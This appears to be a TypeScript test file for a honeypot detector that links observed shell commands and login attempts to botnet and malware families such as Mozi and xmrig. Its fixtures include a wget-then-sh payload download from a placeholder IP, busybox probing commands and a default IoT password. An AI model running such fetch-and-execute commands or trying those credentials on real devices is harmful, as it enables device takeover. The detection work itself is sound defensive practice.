import { describe, expect, it } from 'vitest';
import { testEvent } from '../../scoring/test-facts.ts';
import { createFamilyMatcher, type Observation, observationsOf, readFamilies } from './families.ts';

const families = readFamilies();
const matcher = createFamilyMatcher(families);

const commands = (lines: readonly string[]): Observation[] =>
  lines.map((text, index) => ({ kind: 'command', text, source: `e${index}` }));

describe('hints at tools and botnets', () => {
  it.each(families.map((family) => [family.id, family] as const))(
    '%s is seen in what it does and not elsewhere',
    (id, family) => {
      const seen = (lines: readonly string[]): boolean =>
        matcher.hints(commands(lines)).some((hint) => hint.family === id);
      expect(family.positive.filter((lines) => !seen(lines))).toEqual([]);
      expect(family.negative.filter(seen)).toEqual([]);
    },
  );

  it('name each sign with the events that show it', () => {
    expect(matcher.hints(commands(['uname -a', 'wget http://192.0.2.1/Mozi.m', 'sh Mozi.m; ls /Mozi']))).toEqual([
      {
        family: 'mozi',
        name: 'Mozi',
        kind: 'device-worm',
        confidence: 0.95,
        evidence: [{ indicator: 'file-name', weight: 0.95, sources: ['e1', 'e2'] }],
      },
    ]);
  });

  it('do not depend on the order of events', () => {
    const lines = ['enable', 'system', 'sh', '/bin/busybox ECCHI', 'cp /bin/echo .s', 'dd bs=52 count=1 if=.s'];
    const strip = (hints: ReturnType<typeof matcher.hints>) =>
      hints.map(({ family, confidence }) => [family, confidence]);
    expect(strip(matcher.hints(commands([...lines].reverse())))).toEqual(strip(matcher.hints(commands(lines))));
  });

  it('keep at most ten events per sign', () => {
    const [hint] = matcher.hints(commands(Array.from({ length: 50 }, () => './xmrig')));
    expect(hint?.evidence[0]?.sources).toHaveLength(10);
  });

  it('come from commands, credentials, transfers and clients', () => {
    const events = [
      testEvent('command.entered', 'a', { input: ' id ', channel: 'shell' }),
      testEvent('credential.tried', 'b', { method: 'password', username: 'root', secret: 'vizxv', accepted: false }),
      testEvent('session.opened', 'c', {}),
    ];
    expect(events.flatMap(observationsOf).map(({ kind, text }) => [kind, text])).toEqual([
      ['command', 'id'],
      ['credential', 'root:vizxv'],
    ]);
  });
});
